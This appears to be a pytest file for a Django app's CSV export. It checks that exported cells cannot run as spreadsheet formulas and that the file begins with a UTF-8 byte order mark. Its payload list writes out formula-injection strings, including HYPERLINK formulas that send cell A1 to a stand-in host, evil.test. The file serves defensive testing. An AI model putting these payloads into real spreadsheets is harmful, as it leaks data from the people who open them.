"""The CSV export: a file Excel opens as UTF-8, and no cell it would run."""

import codecs
import csv
import io

import pytest
from django.urls import reverse

from pages.tables import COLUMNS, Format
from tests.factories import make_schedule

# What spreadsheets run as a formula: a cell starting with one of these, after
# any blanks, or a cell starting with a control character.
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
PAYLOADS = [
    *[f'{t}HYPERLINK("http://evil.test/?"&A1,"x")' for t in TRIGGERS],
    " =1+1",
    "\u3000@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n-2+3",
]
# The text each column's cell is made of, set to the payload for the test.
TEXT_FIELDS = (
    "name",
    "target_name",
    "description",
    "timezone",
    "cron",
    "owner_name",
    "owner_email",
    "trigger_kind",
    "task_kind",
    "disable_reason",
    "note",
)


def runs_as_formula(cell: str) -> bool:
    return cell != "" and (cell[0] < " " or cell.lstrip()[:1] in TRIGGERS)


def export(client) -> bytes:
    response = client.get(reverse("pages:schedules_csv"))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_cell_of_any_column_runs_as_a_formula(login, world, payload):
    world.acme.name = payload
    world.acme.save(update_fields=["name"])
    sized = {
        field: payload[:20] if field.endswith("_kind") else payload
        for field in TEXT_FIELDS
    }
    make_schedule(world.acme, **sized)

    text = export(login(world.bob)).decode("utf-8-sig")
    [header, row] = list(csv.reader(io.StringIO(text, newline="")))

    assert header == [column.label for column in COLUMNS]
    assert [cell for cell in row if runs_as_formula(cell)] == []
    carried = {column.label for column in COLUMNS if column.attr in TEXT_FIELDS}
    carried |= {"Workspace"}
    guarded = {
        label
        for label, cell in zip(header, row, strict=True)
        if cell.startswith("'") and payload[:20] in cell
    }
    assert guarded == carried


def test_every_column_is_text_or_made_by_the_export():
    """A new text column must join TEXT_FIELDS above, or the guard goes untested."""
    for column in COLUMNS:
        if column.format in (Format.TEXT, Format.CHOICE):
            assert column.attr in (*TEXT_FIELDS, "workspace_name", "aac_id"), column


def test_it_starts_with_a_byte_order_mark_for_excel(login, world):
    make_schedule(world.acme, name="Café Zürich 東京")

    content = export(login(world.bob))

    assert content.startswith(codecs.BOM_UTF8)
    assert content.count(codecs.BOM_UTF8) == 1
    assert "Café Zürich 東京" in content.decode("utf-8-sig")
